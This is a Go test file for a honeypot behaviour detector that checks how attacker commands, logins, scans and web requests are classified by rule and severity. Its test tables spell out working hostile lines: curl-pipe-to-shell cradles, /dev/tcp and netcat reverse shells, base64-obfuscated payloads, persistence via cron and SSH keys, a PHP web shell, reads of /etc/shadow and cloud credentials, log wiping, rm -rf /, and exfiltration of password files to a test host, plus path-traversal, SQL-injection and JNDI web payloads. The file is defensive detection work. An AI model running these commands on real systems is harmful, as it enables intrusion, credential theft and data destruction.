package behaviour_test

import (
	"bufio"
	"encoding/json"
	"fmt"
	"net/netip"
	"os"
	"path/filepath"
	"reflect"
	"slices"
	"strings"
	"testing"
	"time"

	"honeyguide"
	"honeyguide/internal/attack"
	"honeyguide/internal/detect"
	"honeyguide/internal/detect/behaviour"
)

var noon = time.Date(2026, 3, 1, 12, 0, 0, 0, time.UTC)

func open(t testing.TB) detect.Detector {
	t.Helper()
	d, err := behaviour.Kind.Open(t.Context(), nil, detect.Deps{})
	if err != nil {
		t.Fatal(err)
	}
	return d
}

// event makes the n-th event of a source, n seconds after noon.
func event(n int, src, activity string, attrs ...string) honeyguide.Event {
	e := honeyguide.Event{
		ID: fmt.Sprintf("e%d", n), Time: noon.Add(time.Duration(n) * time.Second), Activity: activity,
		Sensor: "ssh", Service: "ssh", Session: "s-" + src,
		Src: honeyguide.Endpoint{Addr: netip.AddrPortFrom(netip.MustParseAddr(src), 4711)},
	}
	for i := 0; i+1 < len(attrs); i += 2 {
		e.Set(attrs[i], attrs[i+1])
	}
	return e
}

func command(n int, line string) honeyguide.Event {
	return event(n, "203.0.113.7", honeyguide.ActivityCommand, honeyguide.AttrCommand, line)
}

// detectAll returns the merged alerts by rule id; the worst of each.
func detectAll(t testing.TB, d detect.Detector, events ...honeyguide.Event) map[string]honeyguide.Alert {
	t.Helper()
	alerts, err := d.Detect(t.Context(), events)
	if err != nil {
		t.Fatal(err)
	}
	var m detect.Merger
	for _, a := range alerts {
		m.Add(a)
	}
	out := map[string]honeyguide.Alert{}
	for _, a := range m.Alerts() {
		if a.Severity >= out[a.RuleID].Severity {
			out[a.RuleID] = a
		}
	}
	return out
}

func TestCommands(t *testing.T) {
	for line, want := range map[string]string{
		"uname -a": "recon_commands low", "cat /proc/cpuinfo | grep name | wc -l": "recon_commands low", "/bin/./uname -s": "recon_commands low",
		"cat /etc/passwd": "recon_commands low", "crontab -l": "recon_commands low",
		"wget http://192.0.2.1/x":                            "tool_transfer medium",
		"/bin/busybox wget http://192.0.2.1/x":               "tool_transfer medium",
		`sh -c "wget http://192.0.2.1/x"`:                    "tool_transfer medium",
		"tftp -g -r x 192.0.2.1":                             "tool_transfer medium",
		"scp -t /tmp/x":                                      "tool_transfer medium",
		"curl -s http://192.0.2.1/x | sh":                    "download_cradle high",
		"wget -qO - h.example/x|perl":                        "download_cradle high",
		"cd /tmp; wget http://192.0.2.1/x; chmod 777 x; ./x": "download_cradle high",
		"wget http://192.0.2.1/a.sh; sh a.sh":                "download_cradle high",
		`bash -c "$(curl -fsSL http://192.0.2.1/x)"`:         "download_cradle high",
		"./qTd9NGGQ":  "drop_execute medium",
		"/tmp/.x/run": "drop_execute medium",
		"bash -i >& /dev/tcp/192.0.2.1/4444 0>&1":                "reverse_shell high",
		"nc 192.0.2.1 4444 -e /bin/sh":                           "reverse_shell high",
		"./xmrig -o stratum+tcp://pool.example:3333":             "miner high",
		"/bin/busybox TRQBQ":                                     "botnet_probe medium",
		"enable":                                                 "botnet_probe medium",
		"tftp; wget; /bin/busybox TRQBQ":                         "botnet_probe medium",
		`echo -ne '\x7f\x45\x4c\x46\x01' >> .f`:                  "botnet_loader high",
		"echo d2dldCBodHRwOi8vMTkyLjAuMi4xL3g= | base64 -d | sh": "obfuscation high",
		"echo 'ssh-rsa AAAAB3Nz x' >> ~/.ssh/authorized_keys":    "persistence_ssh_key high",
		"(crontab -l; echo '* * * * * /tmp/x') | crontab -":      "persistence_cron high",
		"echo '* * * * * root /tmp/x' > /etc/cron.d/x":           "persistence_cron high",
		"cp x.service /etc/systemd/system/x.service":             "persistence_service high",
		"echo /tmp/x & >> ~/.bashrc; echo x >> ~/.bashrc":        "persistence_shell_rc high",
		`echo "root:x94mpIxx5t"|chpasswd|bash`:                   "account_change high",
		`echo -e "a\nb\nb"|passwd`:                               "account_change high",
		"useradd -m -G sudo eve":                                 "account_change medium",
		"echo '<?php system($_GET[1]);' > /var/www/html/a.php":   "web_shell high",
		"cat /etc/shadow":                                        "credential_access high",
		"cat ~/.aws/credentials":                                 "credential_access high",
		"cat ~/.bash_history":                                    "credential_access medium",
		"curl http://169.254.169.254/latest/meta-data/":          "cloud_metadata high",
		"find / -perm -4000 2>/dev/null":                         "privilege_escalation high",
		"echo 'eve ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers":      "privilege_escalation high",
		"sudo su -":                                      "privilege_escalation medium",
		"history -c":                                     "log_wiping high",
		"unset HISTFILE":                                 "log_wiping high",
		"rm -rf /var/log/auth.log":                       "log_wiping high",
		"> /var/log/wtmp":                                "log_wiping high",
		"iptables -F":                                    "defense_evasion high",
		"systemctl stop auditd":                          "defense_evasion high",
		"cd ~; chattr -ia .ssh; lockr -ia .ssh":          "defense_evasion high",
		"pkill -9 xmrig":                                 "miner high",
		"rm -rf /":                                       "destruction high",
		"sshpass -p x ssh root@198.51.100.4":             "lateral_movement high",
		"nmap -sS 10.0.0.0/24":                           "lateral_movement high",
		"ssh backup@10.0.0.9":                            "lateral_movement medium",
		"ssh -R 8080:127.0.0.1:80 u@198.51.100.4":        "tunnel high",
		"curl -F file=@/etc/passwd http://192.0.2.1/":    "data_exfiltration high",
		"tar cz /etc | nc 192.0.2.1 99":                  "data_exfiltration high",
		"scp /etc/passwd u@192.0.2.1:/x":                 "data_exfiltration high",
		"wget --post-file=/etc/shadow http://192.0.2.1/": "data_exfiltration high",
	} {
		id, sev, _ := strings.Cut(want, " ")
		got := detectAll(t, open(t), command(1, line))
		if got[id].Severity.String() != sev {
			t.Errorf("%q: %s is %s, want %s; all: %v", line, id, got[id].Severity, sev, ids(got))
		}
	}
}

func ids(m map[string]honeyguide.Alert) []string {
	var out []string
	for id, a := range m {
		out = append(out, id+" "+a.Severity.String())
	}
	slices.Sort(out)
	return out
}

// Ordinary administration, even on a decoy, is nothing to get up at night for.
func TestBenignCommandsRaiseNothingHigh(t *testing.T) {
	benign := []string{
		"ls -la", "cd /var/www", "pwd", "apt update", "apt-get upgrade -y", "systemctl status nginx", "systemctl restart nginx", "systemctl stop nginx", "df -h", "free -m",
		"tail -n 100 /var/log/nginx/error.log", "tail -f /var/log/syslog", "vim /etc/nginx/nginx.conf", "cat /etc/os-release", "ps aux", "ps aux | grep nginx", "top", "docker ps", "docker logs web",
		"git pull", "git status", "crontab -l", "journalctl -u ssh -n 50", "uptime", "who", "man ls", "curl -I https://example.com/", "ping -c 3 192.0.2.1", "ssh-keygen -t ed25519", "mkdir -p /opt/app",
		"cp a.conf a.conf.bak", "mv a b", "chmod 644 index.html", "chmod 700 ~/.ssh", "chown www-data: /srv/www", "sudo apt install htop", "sudo systemctl reload nginx", "echo hello", "date", "history",
		"grep -r listen /etc/nginx", "less README.md", "tar czf backup.tgz /etc/nginx", "nginx -t", "mysql -u root -p", "du -sh /var", "ip addr", "ss -tlnp", "hostname", "reboot", "exit", "clear",
		"/usr/local/bin/backup.sh >> /var/log/backup.log 2>&1", "sed -i 's/a/b/' app.conf", "python3 manage.py migrate", "npm install", "make", "iptables -L -n", "ufw status", "find . -name '*.log'",
		"service apache2 restart", "mount /dev/sdb1 /mnt", "useradd -m bob", "passwd bob", "su - postgres", "kill 1234", "mysqldump shop > shop.sql",
	}
	d := open(t)
	for i, line := range benign {
		for id, a := range detectAll(t, d, command(i*600, line)) {
			if a.Severity >= honeyguide.SeverityHigh {
				t.Errorf("%q raises %s (%s)", line, id, a.Severity)
			}
		}
	}
}

func TestLogins(t *testing.T) {
	fail := func(n int, src, user, pw string) honeyguide.Event {
		return event(n, src, honeyguide.ActivityLoginFailed, honeyguide.AttrUser, user, honeyguide.AttrPassword, pw)
	}
	var events []honeyguide.Event
	for i := range 4 {
		events = append(events, fail(i, "203.0.113.7", "root", fmt.Sprint("pw", i)))
	}
	if got := detectAll(t, open(t), events...); len(got) != 0 {
		t.Errorf("four failures: %v", ids(got))
	}
	events = append(events, fail(5, "203.0.113.7", "root", "pw5"), fail(6, "203.0.113.7", "root", "pw6"),
		event(7, "203.0.113.7", honeyguide.ActivityLoginSuccess, honeyguide.AttrUser, "root"))
	got := detectAll(t, open(t), events...)
	bf := got["brute_force"]
	if bf.Count != 6 || len(bf.EventIDs) != 6 || bf.Severity != honeyguide.SeverityMedium || !bf.Time.Equal(noon) {
		t.Errorf("brute force: %+v", bf)
	}
	if got["success_after_failures"].Severity != honeyguide.SeverityHigh || got["decoy_login"].Severity != honeyguide.SeverityMedium {
		t.Errorf("success: %v", ids(got))
	}
	// Slow failures are no brute force.
	events = nil
	for i := range 20 {
		events = append(events, fail(i*120, "203.0.113.7", "root", "x"))
	}
	if got := detectAll(t, open(t), events...); got["brute_force"].Count != 0 {
		t.Errorf("slow failures: %v", ids(got))
	}
}

func TestSpray(t *testing.T) {
	var events []honeyguide.Event
	for i := range 5 {
		events = append(events, event(i, fmt.Sprintf("203.0.113.%d", i+1), honeyguide.ActivityLoginFailed, honeyguide.AttrUser, "root", honeyguide.AttrPassword, fmt.Sprint("p", i)))
	}
	a := detectAll(t, open(t), events...)["password_spray"]
	if a.Count != 5 || a.Attacker != "campaign:spray:root" || len(a.Observed) != 5 {
		t.Errorf("many sources: %+v", a)
	}
	events = nil
	for i := range 5 {
		events = append(events, event(i, "203.0.113.7", honeyguide.ActivityLoginFailed, honeyguide.AttrUser, fmt.Sprint("user", i), honeyguide.AttrPassword, "Spring2026"))
	}
	if a := detectAll(t, open(t), events...)["password_spray"]; a.Attacker != "attacker:203.0.113.7" {
		t.Errorf("many users: %+v", a)
	}
}

func TestRunOfAFileFetchedBeforeIsACradle(t *testing.T) {
	d := open(t)
	got := detectAll(t, d, command(1, "wget http://192.0.2.1/x.sh"), command(2, "ls"), command(60, "sh x.sh"), command(61, "chmod +x x.sh"), command(62, "./x.sh"))
	if got["download_cradle"].Severity != honeyguide.SeverityHigh || got["download_cradle"].EventIDs[0] != "e62" && got["download_cradle"].EventIDs[0] != "e60" {
		t.Errorf("got %v", ids(got))
	}
	if o := got["tool_transfer"].Observed; len(o) != 1 || o[0].Value != "http://192.0.2.1/x.sh" {
		t.Errorf("observables %+v", o)
	}
}

func TestReconOfSeveralQuestionsIsMedium(t *testing.T) {
	got := detectAll(t, open(t), command(1, "uname -a"), command(2, "uname -a"), command(3, "id"))
	if got["recon_commands"].Severity != honeyguide.SeverityLow {
		t.Errorf("two questions: %v", ids(got))
	}
	got = detectAll(t, open(t), command(1, "uname -a; id; w"))
	if a := got["recon_commands"]; a.Severity != honeyguide.SeverityMedium || a.Count != 1 || len(a.Attacks) != 2 {
		t.Errorf("three questions in one line: %+v", a)
	}
}

func TestOtherActivities(t *testing.T) {
	for _, c := range []struct {
		e    honeyguide.Event
		want string
	}{
		{event(1, "203.0.113.7", honeyguide.ActivityConnect), "decoy_contact low"},
		{event(1, "203.0.113.7", honeyguide.ActivityRequest, honeyguide.AttrDetail, "client request"), "decoy_contact low"},
		{event(1, "203.0.113.7", honeyguide.ActivityExecute, honeyguide.AttrPath, "/tmp/x"), "drop_execute medium"},
		{event(1, "203.0.113.7", honeyguide.ActivityTunnel, honeyguide.AttrDetail, "192.0.2.1:25"), "tunnel medium"},
		{event(1, "203.0.113.7", honeyguide.ActivityDownload, honeyguide.AttrURL, "http://192.0.2.1/x"), "tool_transfer medium"},
		{event(1, "203.0.113.7", honeyguide.ActivityFileWrite, honeyguide.AttrPath, "/root/.ssh/authorized_keys"), "persistence_ssh_key high"},
		{event(1, "203.0.113.7", honeyguide.ActivityFileWrite, honeyguide.AttrPath, "/tmp/x"), "malware_drop medium"},
		{event(1, "203.0.113.7", honeyguide.ActivityRequest, honeyguide.AttrMethod, "GET", honeyguide.AttrURL, "/../../etc/passwd"), "web_probe medium"},
		{event(1, "203.0.113.7", honeyguide.ActivityRequest, honeyguide.AttrMethod, "GET", honeyguide.AttrURL, "/%252e%252e/%2eenv"), "web_probe medium"},
		{event(1, "203.0.113.7", honeyguide.ActivityRequest, honeyguide.AttrMethod, "GET", honeyguide.AttrURL, "/x?a=1+union+select+2"), "web_injection high"},
		{event(1, "203.0.113.7", honeyguide.ActivityRequest, honeyguide.AttrURL, "/", honeyguide.AttrUserAgent, "Mozilla/5.0 zgrab/0.x"), "web_scan medium"},
		{event(1, "203.0.113.7", honeyguide.ActivityRequest, honeyguide.AttrURL, "/", honeyguide.AttrHeaders, "X: ${jndi:ldap://h/a}"), "web_injection high"},
	} {
		id, sev, _ := strings.Cut(c.want, " ")
		if got := detectAll(t, open(t), c.e); got[id].Severity.String() != sev {
			t.Errorf("%s %v: %v, want %s", c.e.Activity, c.e.Attrs, ids(got), c.want)
		}
	}
	redis := command(1, "CONFIG SET dir /root/.ssh/")
	redis.Service = "redis"
	if got := detectAll(t, open(t), redis); got["exploit_attempt"].Severity != honeyguide.SeverityHigh {
		t.Errorf("redis: %v", ids(got))
	}
	ordinary := event(1, "203.0.113.7", honeyguide.ActivityRequest, honeyguide.AttrMethod, "GET", honeyguide.AttrURL, "/index.html", honeyguide.AttrUserAgent, "Mozilla/5.0")
	if got := detectAll(t, open(t), ordinary); len(got) != 0 {
		t.Errorf("an ordinary request: %v", ids(got))
	}
	outside := event(1, "203.0.113.7", honeyguide.ActivityConnect, honeyguide.AttrProduct, "suricata")
	if got := detectAll(t, open(t), outside); len(got) != 0 {
		t.Errorf("another product's connection: %v", ids(got))
	}
}

func TestScans(t *testing.T) {
	var ports, paths []honeyguide.Event
	for i := range 25 {
		e := event(i, "203.0.113.7", honeyguide.ActivityConnect)
		e.Sensor = fmt.Sprint("sensor", i%4)
		ports = append(ports, e)
		paths = append(paths, event(i, "203.0.113.7", honeyguide.ActivityRequest, honeyguide.AttrMethod, "GET", honeyguide.AttrURL, fmt.Sprint("/page", i)))
	}
	if got := detectAll(t, open(t), ports...); got["port_scan"].Count != 25 {
		t.Errorf("ports: %+v", got["port_scan"])
	}
	if got := detectAll(t, open(t), paths...); got["web_scan"].Count != 25 {
		t.Errorf("paths: %+v", got["web_scan"])
	}
}

// However the log is cut, the merged alerts are the same.
func TestCutsDoNotMatter(t *testing.T) {
	events := story()
	whole := mergedIn(t, len(events), events)
	for _, size := range []int{1, 2, 3, 7} {
		if got := mergedIn(t, size, events); !reflect.DeepEqual(got, whole) {
			t.Errorf("batches of %d give other alerts", size)
		}
	}
}

func mergedIn(t *testing.T, size int, events []honeyguide.Event) []honeyguide.Alert {
	t.Helper()
	d, m := open(t), detect.Merger{}
	for batch := range slices.Chunk(events, size) {
		alerts, err := d.Detect(t.Context(), batch)
		if err != nil {
			t.Fatal(err)
		}
		for _, a := range alerts {
			m.Add(a)
		}
	}
	return m.Alerts()
}

func story() []honeyguide.Event {
	var out []honeyguide.Event
	for i := range 12 {
		out = append(out, event(i, "203.0.113.7", honeyguide.ActivityLoginFailed, honeyguide.AttrUser, "root", honeyguide.AttrPassword, fmt.Sprint("p", i)))
	}
	out = append(out, event(20, "203.0.113.7", honeyguide.ActivityLoginSuccess, honeyguide.AttrUser, "root"))
	for i, line := range []string{"uname -a", "id; w", "wget http://192.0.2.1/x", "sh x", "echo x >> ~/.ssh/authorized_keys", "history -c"} {
		out = append(out, command(30+i, line))
	}
	return out
}

func TestEveryTechniqueIsInTheTable(t *testing.T) {
	seen := map[string]bool{}
	for _, r := range behaviour.Rules() {
		if r.ID == "" || r.Title == "" || r.Why == "" || r.Severity == 0 || !slices.Contains(detect.Categories(), r.Category) {
			t.Errorf("incomplete rule %+v", r)
		}
		seen[r.ID] = true
		for _, id := range r.Techniques {
			if _, ok := attack.Lookup(id); !ok {
				t.Errorf("%s names %s, which is not in the table", r.ID, id)
			}
		}
	}
	for _, id := range []string{"brute_force", "password_spray", "success_after_failures", "recon_commands", "download_cradle", "privilege_escalation", "lateral_movement", "data_exfiltration", "log_wiping", "miner", "botnet_loader", "web_probe", "decoy_contact"} {
		if !seen[id] {
			t.Errorf("no rule %s", id)
		}
	}
}

func TestConfigIsChecked(t *testing.T) {
	for _, bad := range []behaviour.Config{{}, {BruteForceCount: 51}} {
		if err := bad.Validate(); err == nil {
			t.Errorf("%+v is accepted", bad)
		}
	}
	if err := behaviour.Kind.Check(nil); err != nil {
		t.Error(err)
	}
}

// corpus returns the command lines of the attacker corpus with how often each
// was seen.
func corpus(t testing.TB) map[string]int {
	t.Helper()
	dir, err := os.Getwd()
	for err == nil && dir != "/" {
		if _, missing := os.Stat(filepath.Join(dir, "go.mod")); missing == nil {
			break
		}
		dir = filepath.Dir(dir)
	}
	var files []string
	for _, up := range []string{"..", "../.."} {
		found, _ := filepath.Glob(filepath.Join(dir, up, "shared/corpus/attacker/*.jsonl"))
		files = append(files, found...)
	}
	out := map[string]int{}
	for _, name := range files {
		if strings.Contains(name, "tty") {
			continue
		}
		f, err := os.Open(name)
		if err != nil {
			t.Fatal(err)
		}
		sc := bufio.NewScanner(f)
		sc.Buffer(nil, 1<<20)
		for sc.Scan() {
			var row struct {
				N int    `json:"n"`
				C string `json:"c"`
			}
			if err := json.Unmarshal(sc.Bytes(), &row); err != nil {
				t.Fatal(err)
			}
			out[row.C] += row.N
		}
		_ = f.Close()
	}
	if len(out) == 0 {
		t.Skip("the attacker corpus is not here")
	}
	return out
}

func TestCorpusIsSeen(t *testing.T) {
	lines, seen, total, seenTotal, high := corpus(t), 0, 0, 0, 0
	var missed []string
	d := open(t)
	n := 0
	for line, count := range lines {
		n++
		got := detectAll(t, d, event(n*1000, "203.0.113.7", honeyguide.ActivityCommand, honeyguide.AttrCommand, line))
		total += count
		if len(got) == 0 {
			missed = append(missed, fmt.Sprintf("%8d %.120q", count, line))
			continue
		}
		seen++
		seenTotal += count
		for _, a := range got {
			if a.Severity >= honeyguide.SeverityHigh {
				high++
				break
			}
		}
	}
	share := float64(seen) / float64(len(lines))
	t.Logf("%d of %d lines (%.1f %%) raise an alert, %d of them high; weighed by sightings %.1f %%", seen, len(lines), 100*share, high, 100*float64(seenTotal)/float64(total))
	slices.Sort(missed)
	slices.Reverse(missed)
	for _, m := range missed[:min(len(missed), 60)] {
		t.Log("missed ", m)
	}
	if share < 0.95 {
		t.Errorf("only %.1f %% of the corpus' lines raise an alert, want 95 %%", 100*share)
	}
}

func FuzzDetect(f *testing.F) {
	f.Add("command", "process.cmd_line", "echo aWQ= | base64 -d | sh")
	f.Add("request", "http_request.url", "/%25%32%65%zz")
	f.Add("login_failed", "user.name", "root")
	f.Add("file_write", "file.path", "/tmp/x")
	d := open(f)
	f.Fuzz(func(t *testing.T, activity, name, value string) {
		e := event(1, "203.0.113.7", activity, name, value)
		alerts, err := d.Detect(t.Context(), []honeyguide.Event{e, e})
		if err != nil {
			t.Fatal(err)
		}
		for _, a := range alerts {
			if len(a.EventIDs) > honeyguide.MaxEvidence || a.DedupeKey == "" || a.ID == "" {
				t.Fatalf("bad alert %+v", a)
			}
		}
	})
}

func BenchmarkDetect(b *testing.B) {
	d, events := open(b), story()
	for b.Loop() {
		if _, err := d.Detect(b.Context(), events); err != nil {
			b.Fatal(err)
		}
	}
	b.ReportMetric(float64(b.N*len(events))/b.Elapsed().Seconds(), "events/s")
}
